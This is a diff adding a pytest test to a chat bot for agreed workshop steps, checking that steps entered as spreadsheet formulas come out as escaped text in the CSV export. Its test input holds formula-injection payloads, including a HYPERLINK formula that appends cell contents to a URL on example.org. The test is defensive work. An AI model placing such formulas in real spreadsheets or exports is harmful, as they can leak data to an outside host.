@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 
 from bot.domain.next_steps import AgreedStep, free_position, parse_step
@@ -99,3 +102,25 @@ async def test_at_most_five_steps_and_a_step_can_be_removed(bot: BotHarness) -> 
     assert chris.notices()[-1] == "Diesen Schritt gibt es nicht mehr."
     await chris.tap("➕ Schritt eintragen")
     assert "Schritt 3 für den Workshop" in chris.last.text  # the free place
+
+
+async def test_a_step_typed_as_a_formula_is_exported_as_text(bot: BotHarness) -> None:
+    chris = bot.person(1, "Chris")
+    payload = await set_up(chris)
+    for i in range(3):
+        await take_part(bot.person(10 + i, f"P{i}"), payload, "Politik", "AAAAAAA")
+    await release(chris)
+    await chris.tap("🤝 Vereinbarte Schritte")
+    for step in ('=HYPERLINK("https://example.org/x?d="&A1;"Details")\n@SUM(A1:A9)\n+1',
+                 "-1+1 Sitzungen\n=1+1\n-1"):
+        await chris.tap("➕ Schritt eintragen")
+        await chris.send(step)
+    await reopen_menu(chris)
+    await chris.tap("🗂 CSV-Export")
+    rows = list(csv.reader(io.StringIO(chris.last.file.decode("utf-8-sig")), delimiter=";"))
+    assert rows[-2:] == [
+        ["Schritt", "1", '\'=HYPERLINK("https://example.org/x?d="&A1;"Details")',
+         "'@SUM(A1:A9)", "'+1"],
+        ["Schritt", "2", "'-1+1 Sitzungen", "'=1+1", "'-1"]]
+    numbers = [row for row in rows if row and row[0] == "Handlungsfeld"]
+    assert numbers and all(cell.isdigit() for row in numbers for cell in row[4:8])
